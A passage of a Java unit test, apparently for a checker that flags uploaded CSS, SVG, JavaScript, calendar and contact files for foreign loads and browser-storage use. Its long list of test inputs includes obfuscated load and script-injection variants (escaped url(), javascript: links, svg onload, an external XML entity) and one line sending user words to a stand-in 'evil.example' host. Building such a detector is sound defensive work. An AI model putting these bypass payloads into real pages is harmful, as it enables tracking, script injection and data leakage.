package org.havenhub.check;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.util.List;
import org.havenhub.files.SourceFile;
import org.havenhub.report.Place;
import org.havenhub.report.Problem;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class FileCheckTest {

    @Test
    void aLongAddressIsToldByItsBeginning() {
        String picture = "data:image/tiff," + "A".repeat(9_000);
        String drawing = "<svg><image href='" + picture + "'/></svg>";

        assertThat(FileCheck.check("a.svg", drawing.getBytes(StandardCharsets.UTF_8), List.of()))
                .extracting(Problem::message)
                .allSatisfy(message -> assertThat(message).hasSizeLessThan(200).contains("data:image/tiff", "A…"))
                .isNotEmpty();
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', quoteCharacter = '`', textBlock = """
            a.css         | foreign-load    | @import "https://a.example.org/a.css";
            a.css         | foreign-load    | @import url(//a.example.org/a.css);
            a.css         | foreign-load    | a { background: url( https://a.example.org/a.png ) }
            a.css         | foreign-load    | a { background: URL("https://a.example.org/a.png") }
            a.css         | foreign-load    | a { background: \\75rl(https://a.example.org/a.png) }
            a.css         | foreign-load    | a { background: url(\\68ttps://a.example.org/a.png) }
            a.css         | foreign-load    | a { background: url("/\\9/a.example.org/a.png") }
            a.css         | foreign-load    | a { background: image-set("https://a.example.org/a.png" 1x) }
            a.css         | foreign-load    | a { content: image-set("https://a.example.org/a.png" 1x) }
            a.css         | foreign-load    | a { background: src("https://a.example.org/a.png") }
            a.css         | foreign-load    | a { --a: "https://a.example.org/a.png"; background: image-set(var(--a) 1x) }
            a.css         | foreign-load    | @font-face { font-family: a; src: local(a), url(https://a.example.org/a.woff2) }
            a.css         | foreign-load    | a { background: url(data:image/png;base64,AAAA) }
            a.css         | foreign-load    | a { color: red } /* never closed
            a.css         | foreign-load    | a { content: "never closed
            a.css         | foreign-load    | a { background: url(a"b.png) }
            a.css         | foreign-load    | @charset "shift_jis"; a { color: red }
            a.css         | foreign-load    | @CHARSET "utf-16";
            a.css         | foreign-load    | a { content: "\033$B" }
            a.js          | foreign-load    | say("\016");
            a.svg         | foreign-load    | <svg><text>\0</text></svg>
            a.svg         | foreign-load    | <svg><image href="https://a.example.org/a.png"/></svg>
            a.svg         | foreign-load    | <svg><use xlink:href="//a.example.org/a.svg#b"/></svg>
            a.svg         | foreign-load    | <svg><style>a { fill: url(https://a.example.org/a.svg) }</style></svg>
            a.svg         | foreign-load    | <svg><style><![CDATA[@import "https://a.example.org/a.css";]]></style></svg>
            a.svg         | foreign-load    | <svg><g style="fill: url(https://a.example.org/a.svg#b)"/></svg>
            a.svg         | foreign-load    | <svg><g filter="url(https://a.example.org/a.svg#b)"/></svg>
            a.svg         | foreign-load    | <svg><set attributeName="href" to="https://a.example.org/a.png"/></svg>
            a.svg         | foreign-load    | <svg><set attributeName="mask" to="url(https://a.example.org/a.svg#b)"/></svg>
            a.svg         | foreign-load    | <svg><set attributeName="cursor" to="url(//a.example.org/a.png), auto"/></svg>
            a.svg         | foreign-load    | <svg><set attributeName="filter" to="\\75rl(https://a.example.org/a.svg#b)"/></svg>
            a.svg         | foreign-load    | <svg><animate attributeName="marker-end" values="none;url(https://a.example.org/a.svg#b)"/></svg>
            a.svg         | foreign-load    | <svg><animate attributeName="mask" values="'a;url(https://a.example.org/a.svg#b);'b"/></svg>
            a.svg         | foreign-load    | <svg><animate attributeName="href" values="data:image/png,a;https://a.example.org/a.png"/></svg>
            a.svg         | foreign-load    | <svg><set attributeName="href" to="data:image/jpeg;base64,AAAA"/></svg>
            a.svg         | foreign-load    | <svg><a href="javascript:leave()"><text>Go</text></a></svg>
            a.svg         | foreign-load    | <svg><a xlink:href=" Java&#9;Script:leave()"><text>Go</text></a></svg>
            a.svg         | foreign-load    | <svg><a href="data:text/html,A"><text>Go</text></a></svg>
            a.svg         | foreign-load    | <svg><a href="vbscript:leave()"><text>Go</text></a></svg>
            a.svg         | foreign-load    | <svg><a href="a.html" ping="https://a.example.org/a"><text>Go</text></a></svg>
            a.svg         | foreign-load    | <svg><a href="a.html" attributionsrc=""><text>Go</text></a></svg>
            a.svg         | foreign-load    | <svg><s:script>leave()</s:script></svg>
            a.svg         | foreign-load    | <svg onload="leave()"/>
            a.svg         | foreign-load    | <svg><foreignObject/></svg>
            a.svg         | foreign-load    | <?xml-stylesheet href="https://a.example.org/a.css"?><svg/>
            a.svg         | foreign-load    | <!DOCTYPE svg [<!ENTITY a SYSTEM "https://a.example.org/a">]><svg>&a;</svg>
            a.js          | foreign-load    | fetch("https://a.example.org/a");
            a.js          | foreign-load    | fetch("HTTP://a.example.org/a");
            a.js          | foreign-load    | fetch("ht\\ttp://a.example.org/a");
            a.js          | foreign-load    | fetch("/\\t/a.example.org/a");
            a.js          | foreign-load    | fetch("///a.example.org/a");
            a.js          | foreign-load    | fetch("\\150ttp://a.example.org/a");
            a.js          | foreign-load    | fetch("\\57\\57a.example.org/a");
            a.js          | foreign-load    | import("data:text/javascript,leave()");
            a.js          | foreign-load    | location = "javascript:leave()";
            a.js          | foreign-load    | location = "JavaScript:leave()";
            a.js          | foreign-load    | fetch(address);
            a.js          | foreign-load    | fetch("a" + address);
            a.js          | foreign-load    | fetch(`a/${address}`);
            a.js          | foreign-load    | const load = fetch;
            a.js          | foreign-load    | f\\u0065tch(address);
            a.js          | foreign-load    | window["fetch"](address);
            a.js          | foreign-load    | window["fe" + "tch"](address);
            a.js          | foreign-load    | new XMLHttpRequest();
            a.js          | foreign-load    | new WebSocket(address);
            a.js          | foreign-load    | new EventSource("events");
            a.js          | foreign-load    | navigator.sendBeacon("a");
            a.js          | foreign-load    | new Image().src = address;
            a.js          | foreign-load    | picture.src = picture.dataset.large;
            a.js          | foreign-load    | picture["src"] = address;
            a.js          | foreign-load    | picture.src += address;
            a.js          | foreign-load    | `picture.src ||= address;`
            a.js          | foreign-load    | picture.src ??= address;
            a.js          | foreign-load    | picture.src =-address;
            a.js          | foreign-load    | (picture.src) = address;
            a.js          | foreign-load    | [picture.src] = addresses;
            a.js          | foreign-load    | ({ a: picture.src } = addresses);
            a.js          | foreign-load    | for (picture.src of addresses) { wait(); }
            a.js          | foreign-load    | Object.assign(picture, { src: address });
            a.js          | foreign-load    | Object.assign(picture, { "src": address });
            a.js          | foreign-load    | link.href = address;
            a.js          | foreign-load    | document.body.background = address;
            a.js          | foreign-load    | picture.getAttributeNode("src").value = address;
            a.js          | foreign-load    | picture.attributes[0].value = address;
            a.js          | foreign-load    | top[name](address);
            a.js          | foreign-load    | frames[name](address);
            a.js          | foreign-load    | this[name](address);
            a.js          | foreign-load    | document.defaultView[name](address);
            a.js          | foreign-load    | Reflect.get(window, name)(address);
            a.js          | foreign-load    | const w = window; w[name](address);
            a.js          | foreign-load    | const w = document.defaultView; w[name](address);
            a.js          | foreign-load    | const d = document; d.write(text);
            a.js          | foreign-load    | with (picture) src = address;
            a.js          | foreign-load    | document.createElement(name);
            a.js          | foreign-load    | document.createElement.call(document, name);
            a.js          | foreign-load    | const { constructor: F } = () => {}; F(text)();
            a.js          | foreign-load    | part.style.background = "url(a.png),url(//a.example.org/a.png)";
            a.js          | foreign-load    | part.style.background = "u\\\\72l(//a.example.org/a.png)";
            a.js          | foreign-load    | part.style.backgroundImage = text;
            a.js          | foreign-load    | part.style.cssText = text;
            a.js          | foreign-load    | part.style.setProperty("background-image", text);
            a.js          | foreign-load    | document.styleSheets[0].insertRule("@import '//a.example.org/a.css'");
            a.js          | foreign-load    | document.styleSheets[0].insertRule(text);
            a.js          | foreign-load    | new CSSStyleSheet().replaceSync(text);
            a.js          | browser-storage | window.name = "seen";
            a.js          | browser-storage | window["name"] = "seen";
            a.js          | browser-storage | navigator.credentials.store(new PasswordCredential(data));
            a.js          | foreign-load    | picture.src = "\\x68ttps://a.example.org/a.png";
            a.js          | foreign-load    | picture.src = `//a.example.org/a.png`;
            a.js          | foreign-load    | import("https://a.example.org/a.js");
            a.js          | foreign-load    | import(name);
            a.js          | foreign-load    | import.defer(name);
            a.js          | foreign-load    | new FontFace("a", text).load();
            a.js          | foreign-load    | import a from "https://a.example.org/a.js";
            a.js          | foreign-load    | new Worker(name);
            a.js          | foreign-load    | eval(text);
            a.js          | foreign-load    | new Function(text);
            a.js          | foreign-load    | const a = "never closed
            a.js          | foreign-load    | const a = `never closed
            a.js          | foreign-load    | /* never closed
            a.js          | browser-storage | document.cookie = "a=b";
            a.js          | browser-storage | const { cookie } = document;
            a.js          | browser-storage | localStorage.setItem("a", "b");
            a.js          | browser-storage | window["localStorage"].a = 1;
            a.js          | browser-storage | window?.["sessionStorage"];
            a.js          | browser-storage | const a = `${localStorage.a}`;
            a.js          | browser-storage | const a = `${`${[{}].map(() => { return sessionStorage.a; })}`}`;
            a.js          | browser-storage | indexedDB.open("a");
            a.js          | browser-storage | caches.open("a");
            a.js          | browser-storage | navigator.serviceWorker.register("a.js");
            a.js          | browser-storage | const a = b / 2; localStorage.c = "/";
            a.js          | browser-storage | const a = (b) / 2; localStorage.c = d / 2;
            a.js          | foreign-load    | if (a) /'/.test(b); localStorage.c = 1;
            a.js          | foreign-load    | {} /'/; navigator.sendBeacon("a"); /'/;
            a.js          | foreign-load    | if (a) /[/*]/; leave(); /*/*/;
            a.js          | foreign-load    | while (a) /'/; leave(); 0, /'/;
            a.js          | foreign-load    | do a; while (b) /'/; leave(); 0, /'/;
            a.js          | foreign-load    | a++ /b; leave(); c/1;
            a.js          | foreign-load    | a-- /b; leave(); c/1;
            a.js          | foreign-load    | var of = 1; of /b; leave(); c/1;
            a.js          | foreign-load    | let yield = 1; yield /b; leave(); c/1;
            a.js          | foreign-load    | a.in /b; leave(); c/1;
            a.js          | foreign-load    | this.#in /b; leave(); c/1;
            a.js          | foreign-load    | 1. in /'/; leave(); 0, /'/;
            a.js          | foreign-load    | debugger /'/; leave(); 0, /'/;
            a.js          | browser-storage | class A extends /'/ { } localStorage.a = 1; /'/;
            a.js          | foreign-load    | a = ℵ1 /b; 𝒜 /b; leave(); c/1;
            a.js          | foreign-load    | new Audio(address).play();
            a.js          | foreign-load    | CSS.paintWorklet.addModule(address);
            a.js          | foreign-load    | new WebTransport(address);
            a.js          | foreign-load    | new RTCPeerConnection(servers);
            a.js          | foreign-load    | importScripts(name);
            a.js          | foreign-load    | new SharedWorker(name);
            a.js          | foreign-load    | new Worker("a.js");
            a.js          | foreign-load    | new SharedWorker("a.js");
            a.js          | foreign-load    | CSS.paintWorklet.addModule("a.js");
            a.js          | foreign-load    | navigator.mediaDevices.enumerateDevices();
            a.js          | foreign-load    | navigator.getUserMedia({ audio: true }, show, show);
            a.js          | foreign-load    | devices.getDisplayMedia();
            a.js          | foreign-load    | navigator.geolocation.getCurrentPosition(show);
            a.js          | foreign-load    | window.open(address);
            a.js          | foreign-load    | part.innerHTML = text;
            a.js          | foreign-load    | part["outerHTML"] = text;
            a.js          | foreign-load    | part.insertAdjacentHTML("beforeend", text);
            a.js          | foreign-load    | document.write(text);
            a.js          | foreign-load    | document["write"](text);
            a.js          | foreign-load    | new DOMParser().parseFromString(text, "text/html");
            a.js          | foreign-load    | setTimeout("leave()", 10);
            a.js          | foreign-load    | [].map.constructor("leave()")();
            a.js          | foreign-load    | WebAssembly.instantiate(code);
            a.js          | foreign-load    | picture.setAttribute("src", address);
            a.js          | foreign-load    | picture.setAttribute(name, address);
            a.js          | foreign-load    | picture.setAttributeNS(null, "href", address);
            a.js          | foreign-load    | document.createElement("iframe");
            a.js          | foreign-load    | document.createElement("LINK");
            a.js          | foreign-load    | document.createElementNS("http://www.w3.org/2000/svg", "script");
            a.js          | foreign-load    | part.style.background = "url(https://a.example.org/a.png)";
            a.js          | foreign-load    | part.style.background = "url(" + address + ")";
            a.js          | foreign-load    | part.style.background = `no-repeat url("${address}")`;
            a.js          | foreign-load    | window[name](address);
            a.js          | foreign-load    | window?.[name];
            a.js          | foreign-load    | window[name + "Storage"];
            a.js          | foreign-load    | window["local" + "Storage"];
            a.js          | foreign-load    | window[`${kind}Storage`];
            a.js          | foreign-load    | navigator[["send", "Beacon"].join("")];
            a.js          | browser-storage | globalThis["localStorage"];
            a.js          | browser-storage | navigator.storage.getDirectory();
            a.js          | browser-storage | navigator.storageBuckets.open("a");
            a.js          | browser-storage | sharedStorage.set("a", "b");
            a.js          | browser-storage | cookieStore.set("a", "b");
            a.js          | browser-storage | registration.pushManager.subscribe();
            a.svg         | foreign-load    | <!DOCTYPE svg [<!ATTLIST image href CDATA "https://a.example.org/a.png">]><svg><image/></svg>
            a.svg         | foreign-load    | <!DOCTYPE svg SYSTEM "https://a.example.org/a.dtd"><svg/>
            a.svg         | foreign-load    | <?xml version="1.0" encoding="iso-2022-jp"?><svg/>
            a.svg         | foreign-load    | <svg xmlns:h="http://www.w3.org/1999/xhtml"><h:img srcset="https://a.example.org/a.png"/></svg>
            a.svg         | foreign-load    | <html xmlns="http://www.w3.org/1999/xhtml"><p>A page</p></html>
            a.svg         | foreign-load    | <svg><g fill="\\75rl(https://a.example.org/a.svg#a)"/></svg>
            a.svg         | foreign-load    | <svg><image href="&#x68;ttps://a.example.org/a.png"/></svg>
            a.webmanifest | foreign-load    | {"icons": [{"src": "https://a.example.org/a.png"}]}
            a.webmanifest | foreign-load    | {"icons": [{"src": "HTTPS://a.example.org/a.png"}]}
            a.webmanifest | foreign-load    | {"icons": [{"src": "///a.example.org/a.png"}]}
            a.webmanifest | foreign-load    | {"screenshots": [{"src": "\\/\\/a.example.org/a.png"}]}
            a.ics         | foreign-load    | ATTACH:https://a.example.org/a.pdf
            a.ics         | foreign-load    | attach;fmttype=application/pdf:https://a.example.org/a.pdf
            a.ics         | foreign-load    | ATTACH;X-A="a:b;c":https://a.example.org/a.pdf
            a.ics         | foreign-load    | IMAGE;VALUE=URI;DISPLAY=BADGE:https://a.example.org/a.png
            a.ics         | foreign-load    | SOURCE;VALUE=URI:https://a.example.org/a.ics
            a.ics         | foreign-load    | DESCRIPTION;ALTREP="https://a.example.org/a.html":A
            a.ics         | foreign-load    | DESCRIPTION;X-A="b";ALTREP="https://a.example.org/a.html":A
            a.ics         | foreign-load    | DESCRIPTION;X-A="b:c";altrep=https://a.example.org/a.html:A
            a.ics         | foreign-load    | DESCRIPTION;ALTREP="https://a.example.org/a.html:A
            a.vcf         | foreign-load    | PHOTO;ENCODING=QUOTED-PRINTABLE;VALUE=URL:https=3A//a.example.org/a.png
            a.vcf         | foreign-load    | PHOTO;quoted-printable:htt=
            a.vcf         | foreign-load    | `NOTE:A\rPHOTO:https://a.example.org/a.png`
            a.ics         | foreign-load    | X-ALT-DESC;FMTTYPE=text/html:<p><img src="https://a.example.org/a.png"></p>
            a.vcf         | foreign-load    | PHOTO;VALUE=uri:https://a.example.org/a.png
            a.vcf         | foreign-load    | item1.PHOTO:https://a.example.org/a.png
            a.vcf         | foreign-load    | LOGO;MEDIATYPE=image/png:https://a.example.org/a.png
            a.vcf         | foreign-load    | SOUND:https://a.example.org/a.ogg
            a.vcf         | foreign-load    | KEY:https://a.example.org/a.asc
            a.vcf         | foreign-load    | PHOTO;ENCODING=b:https://a.example.org/a.png
            a.jsonld      | foreign-load    | {"@context": "https://schema.org", "image": "https://a.example.org/a.png"}
            a.jsonld      | foreign-load    | {"logo": {"url": "https:\\/\\/a.example.org/a.png"}}
            a.jsonld      | foreign-load    | {"@context": "https://a.example.org/words"}
            a.jsonld      | foreign-load    | {"@context": ["https://schema.org", "https://a.example.org/words"]}
            a.jsonld      | foreign-load    | {"@context": [{"a": "b"}, "https://a.example.org/words"]}
            a.jsonld      | foreign-load    | {"@context": {"@vocab": "https://schema.org/", "@import": "https://a.example.org/words"}}
            a.jsonld      | foreign-load    | {"\\u0040context": "\\u0068ttps://a.example.org/words"}
            a.jsonld      | foreign-load    | {"image": ["a.png", "https://a.example.org/a.png"]}
            a.jsonld      | foreign-load    | {"image": [{"@type": "ImageObject", "name": "A", "url": "https://a.example.org/a.png"}]}
            a.jsonld      | foreign-load    | {"image": "never closed
            a.js          | foreign-load    | setTimeout(v)
            a.js          | foreign-load    | setInterval(v, 10)
            a.js          | foreign-load    | setTimeout.call(window, v)
            a.js          | foreign-load    | setTimeout?.("leave()")
            a.js          | foreign-load    | open(v)
            a.js          | browser-storage | name = "seen"
            a.js          | foreign-load    | i[k] = u
            a.js          | foreign-load    | i[k] = 0 ? 1 : u
            a.js          | foreign-load    | for (i[k] of list) show();
            a.js          | foreign-load    | for (i.src of list) show();
            a.js          | foreign-load    | const async = link.title; setTimeout(async, 10)
            a.js          | foreign-load    | start(frames)
            a.js          | browser-storage | parent.name = "seen"
            a.js          | foreign-load    | [i.src, x] = [u, 1]
            a.js          | foreign-load    | ({ a: i.src, b: c } = o)
            a.js          | foreign-load    | Object.assign(i, { src })
            a.js          | foreign-load    | Object.assign(i, { alt: "a", src, b: 1 })
            a.js          | foreign-load    | Object.assign(i, o)
            a.js          | foreign-load    | location = v
            a.js          | foreign-load    | document.location = v
            a.js          | foreign-load    | location.assign(v)
            a.js          | foreign-load    | location.replace("a" + v)
            a.js          | foreign-load    | location.host = v
            a.js          | foreign-load    | part.style = v
            a.js          | foreign-load    | part.style[k] = v
            a.js          | foreign-load    | part.style.content = v
            a.js          | foreign-load    | part.style.filter = v
            a.js          | foreign-load    | part.style.fill = v
            a.js          | foreign-load    | part.style.webkitMaskImage = v
            a.js          | foreign-load    | part.style["mask-image"] = v
            a.js          | foreign-load    | part.attributeStyleMap.set("background-image", v)
            a.js          | foreign-load    | part.animate([{ backgroundImage: v }, {}], 10)
            a.js          | foreign-load    | part.setAttribute("onclick", "leave()")
            a.js          | foreign-load    | part.setAttribute("srcdoc", "<img src=x>")
            a.js          | foreign-load    | const m = document.createElement("meta"); m.httpEquiv = "refresh"; m.content = "0;url=//a.example.org"
            a.js          | foreign-load    | const m = document.createElement("meta")
            a.js          | foreign-load    | part.attributionSrc = v
            a.js          | foreign-load    | image.href.baseVal = v
            a.js          | browser-storage | history.pushState(state, "", address)
            a.js          | browser-storage | history.replaceState({ seen: 1 }, "")
            a.js          | browser-storage | new BroadcastChannel("a")
            a.js          | browser-storage | navigator.storage.persist()
            a.js          | browser-storage | showDirectoryPicker()
            a.js          | browser-storage | new Notification("a")
            a.js          | foreign-load    | speechSynthesis.speak(new SpeechSynthesisUtterance(text))
            a.js          | foreign-load    | new PresentationRequest(v)
            a.js          | foreign-load    | Object.getOwnPropertyDescriptor(HTMLImageElement.prototype, "src").set.call(i, u)
            a.js          | foreign-load    | i.__lookupSetter__("src").call(i, u)
            a.js          | foreign-load    | Document.parseHTML(text)
            a.js          | foreign-load    | const s = document.createElement("animate")
            a.js          | foreign-load    | const f = Object.assign; f(i, o)
            a.js          | foreign-load    | Object["assign"](i, o)
            a.js          | foreign-load    | const { assign } = Object; assign(i, o)
            a.js          | foreign-load    | const w = [window][0]; w[k](u)
            a.js          | foreign-load    | `const w = a || window; w[k](u)`
            a.js          | foreign-load    | const w = a ? window : 0; w[k](u)
            a.js          | foreign-load    | const w = (0, window); w[k](u)
            a.js          | foreign-load    | function w() { return window } w()[k](u)
            a.js          | foreign-load    | const f = () => window
            a.js          | foreign-load    | for (const w of [window]) w[k](u)
            a.js          | foreign-load    | const w = { window }; w.window[k](u)
            a.js          | foreign-load    | const { navigator: n } = a; n[k](u)
            a.js          | foreign-load    | clientInformation[k](u)
            a.js          | foreign-load    | history[k](state, "", u)
            a.js          | foreign-load    | const { [k]: g } = document; g(t)
            a.js          | foreign-load    | window?.open(u)
            a.js          | foreign-load    | part.ownerDocument.location = u
            a.js          | foreign-load    | d.location = u
            a.js          | foreign-load    | d.location.assign(u)
            a.js          | foreign-load    | location?.assign(u)
            a.js          | foreign-load    | location["assign"](u)
            a.js          | foreign-load    | location.assign.call(location, u)
            a.js          | foreign-load    | const l = location; l.assign(u)
            a.js          | foreign-load    | function f(location) {} location = u
            a.js          | foreign-load    | location.search = u
            a.js          | foreign-load    | link.search = "id=hub1"
            a.js          | foreign-load    | link["search"] = "id=hub1"
            a.js          | foreign-load    | link.search += "id=hub1"
            a.js          | foreign-load    | link.pathname = "/u/1"
            a.js          | foreign-load    | link.username = "hub1"
            a.js          | foreign-load    | link.password = words
            a.js          | foreign-load    | const u = new URL(link.href); u.search = "?id=hub1"
            a.js          | browser-storage | location.hash = "#" + u
            a.js          | foreign-load    | link.hostname = u; link.click()
            a.js          | foreign-load    | const o = { href: u }; location.assign(o.href)
            a.js          | foreign-load    | const o = JSON.parse(t); location.assign(o.href)
            a.js          | foreign-load    | location.assign(JSON.parse(t).href)
            a.js          | foreign-load    | location.assign(link.href + u)
            a.js          | foreign-load    | go({ href })
            a.js          | foreign-load    | location.assign(new URL(u).href)
            a.js          | foreign-load    | new URL("a", u)
            a.js          | foreign-load    | URL.parse(u)
            a.js          | foreign-load    | navigation.navigate(u)
            a.js          | foreign-load    | parent.postMessage(u, "*")
            a.js          | foreign-load    | fetch("a.json", { body: u })
            a.js          | foreign-load    | fetch("a.json", { "method": "POST" })
            a.js          | foreign-load    | fetch("a.json", o)
            a.js          | foreign-load    | fetch("a.json", { ...o })
            a.js          | foreign-load    | m.setAttribute("http-equiv", "refresh")
            a.js          | foreign-load    | const s = part.style; s.content = u
            a.js          | foreign-load    | Object.assign(part.style, { content: u })
            a.js          | foreign-load    | part.animate({ background: u }, 1)
            a.js          | foreign-load    | new KeyframeEffect(part, [{ "mask": u }], 1)
            a.js          | foreign-load    | setTimeout(function () {} + u, 1)
            a.js          | foreign-load    | setTimeout(show.bind(a) + u, 1)
            a.js          | foreign-load    | setTimeout(a.bind, 1)
            a.js          | foreign-load    | location.href += link.href
            a.js          | foreign-load    | location.href = link.href + u
            a.js          | foreign-load    | part.href = link.href
            a.js          | foreign-load    | part[k] = {} + u
            a.js          | foreign-load    | `part[k] = 0 || u`
            a.js          | foreign-load    | part["sr" + c] = u
            a.js          | foreign-load    | show("https:" + "//a.example.org/")
            a.js          | foreign-load    | part.style.background = u
            a.js          | foreign-load    | function show() {} show = u; setTimeout(show, 1)
            a.svg         | foreign-load    | <svg><style>@import <g>/*</g>"https://a.example.org/a"<g>*/</g>;</style></svg>
            a.css         | foreign-load    | a{content:foo("https://a.example.org/a")}
            a.css         | foreign-load    | a{content:var(--a,"https://a.example.org/a")}
            a.css         | foreign-load    | #EXTM3U https://a.example.org/a.ts
            a.ics         | foreign-load    | #EXTM3U https://a.example.org/a.ts
            a.html        | foreign-load    | <p>A page</p>
            a.xml         | foreign-load    | <feed/>
            a.gpx         | foreign-load    | <gpx/>
            a.swf         | foreign-load    | anything
            a.unheard-of  | foreign-load    | anything
            media/a       | foreign-load    | anything
            media.png/a   | foreign-load    | anything
            a.doc         | foreign-load    | <html><img src="https://a.example.org/a.png"></html>
            a.mp3         | foreign-load    | <!-- --><script>leave()</script>
            a.md          | foreign-load    | <?xml-stylesheet href="a.xsl"?>
            a.mp4         | foreign-load    | #EXTM3U https://a.example.org/a.ts
            a.txt         | foreign-load    | \ufeff #EXTM3U https://a.example.org/a.ts
            a.mp4         | foreign-load    | anything
            a.mp3         | foreign-load    | anything
            a.ogg         | foreign-load    | RIFFaaaaWAVE
            a.svgz        | foreign-load    | anything
            a.js          | foreign-load    | let e = {}; e = document.querySelector("img"); e[k] = u;
            a.js          | foreign-load    | function one(){const e={};e[k]=1} function two(e){e[k]=v} two(document.createElement("img"))
            a.js          | foreign-load    | const dataset = img; dataset[key] = value;
            a.js          | foreign-load    | const rows = [document.createElement("img")]; rows[0][key] = value;
            a.js          | foreign-load    | function run(){} function other(run){ setTimeout(run,1) } other(location.hash)
            a.js          | foreign-load    | const e = [img][0]; e[k] = u
            a.js          | foreign-load    | const e = Object(img); e[k] = u
            a.js          | foreign-load    | const e = [] == 0 ? img : 1; e[k] = u
            a.js          | foreign-load    | const o = { firstChild: {} }; part.firstChild[k] = u
            a.js          | foreign-load    | const o = { rows: {} }; o.rows = img; o.rows[k] = u
            a.js          | foreign-load    | const rows = {}; for (rows of list) { rows[k] = u; }
            a.js          | foreign-load    | const rows = {}; list.forEach(rows => { rows[k] = u; })
            a.js          | foreign-load    | const rows = {}; try { go(); } catch (rows) { rows[k] = u; }
            a.js          | foreign-load    | const o = { dataset: img }; o.dataset[k] = u
            a.js          | foreign-load    | const known = []; Object.assign(known[0], o)
            a.js          | foreign-load    | Object.assign(img, o, {})
            a.js          | foreign-load    | Object.assign(img, { ...o })
            a.js          | foreign-load    | Object.assign(img, { [k]: u })
            a.js          | foreign-load    | Object.assign({}.a, o)
            a.js          | foreign-load    | const rows = {}; [rows] = list; rows[k] = u
            a.js          | foreign-load    | const w = event.view; w.open("/" + "/evil.example/?" + words);
            a.js          | foreign-load    | event.view.open(u)
            a.js          | foreign-load    | addEventListener("load", function () { const w = this; w[f](u); })
            a.js          | foreign-load    | const d = document; d[m](u)
            a.js          | foreign-load    | start(document); function start(d) { d[m](u); }
            a.js          | foreign-load    | event.currentTarget[f](u)
            a.js          | foreign-load    | event.currentTarget?.[f](u)
            a.js          | foreign-load    | w[f]?.(u)
            a.js          | foreign-load    | d[m].call(d, u)
            a.js          | foreign-load    | d[m]?.call(d, u)
            a.js          | foreign-load    | new w[k](u)
            a.js          | foreign-load    | const w = this; w.open(u)
            a.js          | foreign-load    | addEventListener("x", ({ view }) => view.open("a.html"))
            a.js          | foreign-load    | addEventListener("x", ({ view: w }) => go(w))
            a.js          | foreign-load    | event.view[f](u)
            a.js          | foreign-load    | event.view.location = u
            a.js          | foreign-load    | const o = { classList: d }; o.classList[m](u)
            a.js          | browser-storage | event.view.name = words
            a.js          | foreign-load    | fetch("data.json", { headers: { x: words } })
            a.js          | foreign-load    | fetch("data.json", { headers })
            a.js          | foreign-load    | fetch("data.json", { referrer: "/?" + words })
            a.js          | foreign-load    | fetch("data.json", { cache: "no-store", ...o })
            a.js          | foreign-load    | fetch("data.json", { cache: "no-store", [k]: u })
            a.js          | foreign-load    | fetch("data.json", { get headers() { return o; } })
            a.js          | foreign-load    | fetch("data.json", { method: m })
            a.js          | foreign-load    | fetch("data.json", { method: "GET" + m })
            a.js          | foreign-load    | fetch("data.json", {} && o)
            a.js          | foreign-load    | fetch?.("data.json", { headers })
            a.js          | foreign-load    | window["fetch"]("data.json", { headers })
            a.js          | foreign-load    | a.search = "?" + words; a.click()
            a.js          | foreign-load    | a.pathname = words
            a.js          | foreign-load    | a["search"] = words
            a.js          | foreign-load    | Object.assign(a, { search: words })
            a.js          | foreign-load    | const u = new URL(location); u.searchParams.set("q", words); location.assign(u.href)
            a.js          | foreign-load    | const p = u.searchParams; p.append("q", words)
            a.js          | foreign-load    | const { searchParams } = new URL(location); searchParams.append("q", words)
            a.js          | foreign-load    | u.searchParams[m]("q", words)
            a.js          | browser-storage | link.hash = words; link.click()
            a.js          | browser-storage | location["hash"] = words
            a.js          | foreign-load    | link.href = "#" + a && u
            a.js          | foreign-load    | link.href = "#" && u
            a.js          | foreign-load    | link.href = "#".replace("#", u)
            a.js          | foreign-load    | link.href = `#${a}`.slice(1)
            a.js          | foreign-load    | part.style.background = "#fff " + u
            a.js          | foreign-load    | image.src = "#" + u
            a.js          | foreign-load    | const w = "https://" + host
            a.js          | foreign-load    | const w = `https://${host}`
            a.js          | foreign-load    | const w = "https:".concat("//", host)
            a.js          | foreign-load    | (function (w) { w[f](u); })(window)
            a.js          | foreign-load    | (function (w, window) { w[f](u); })(window, document)
            a.js          | foreign-load    | (function (a, b, window) { show(b); })(f(), window)
            a.js          | foreign-load    | (function (window) { window[f](u); })(window)
            a.js          | foreign-load    | (function (window) { show(window); })(window)
            a.js          | foreign-load    | `(function (window) {} || f)(window)`
            a.js          | foreign-load    | const { open } = window; open(u)
            a.js          | foreign-load    | location.href = "#" + u
            a.js          | foreign-load    | link.href = "#" + -a ? u : v
            a.js          | foreign-load    | link.href = "#" + typeof a && u
            a.js          | foreign-load    | link.setAttribute("href", "#" + await a && u)
            a.js          | foreign-load    | let e; [e = {}] = [img]; e[k] = u
            a.js          | foreign-load    | let e; ({ e = {} } = o); e[k] = u
            a.js          | foreign-load    | ({ a: e = {} } = o); e[k] = u
            a.js          | foreign-load    | let run; [run = () => {}] = [u]; setTimeout(run, 1)
            a.js          | foreign-load    | open.call(null, u, "_self")
            a.js          | foreign-load    | const o = open; o(u, "_self")
            a.js          | foreign-load    | open.apply(null, [u])
            a.js          | foreign-load    | const o = open.bind(null, u); o()
            a.js          | foreign-load    | [u].forEach(open)
            a.js          | foreign-load    | fetch("a.json").then((a) => a.text()).then(open)
            a.js          | foreign-load    | (open)(u)
            a.js          | foreign-load    | (0, open)(u)
            a.js          | foreign-load    | let o; [o] = [open]; o(u)
            a.js          | foreign-load    | const o = { open }; o.open(u)
            a.js          | foreign-load    | class A { open() {} } open(u, "_self")
            a.js          | foreign-load    | const o = window.open; o(u)
            a.js          | foreign-load    | d.open.call(d, u)
            a.js          | foreign-load    | document.evaluate("descendant::a/attribute::href", document, null, 9).singleNodeValue.value = u
            a.js          | foreign-load    | new XPathEvaluator().createExpression("//a/@href").evaluate(document, 9).singleNodeValue.value = u
            a.js          | foreign-load    | const { singleNodeValue: a } = r; a.value = u
            a.js          | foreign-load    | Object.assign(document, { location: u })
            a.js          | foreign-load    | Object.assign(d, { location: u })
            a.js          | foreign-load    | Object.assign(link, { rel: "" })
            a.js          | foreign-load    | const m = new Proxy({}, { get: () => u }); location.assign(m.href)
            a.js          | foreign-load    | const m = { get href() { return u; } }; location.assign(m.href)
            a.js          | foreign-load    | class M { href = u; } addEventListener("click", () => location.assign(new M().href))
            a.js          | foreign-load    | m.__defineGetter__("href", () => u)
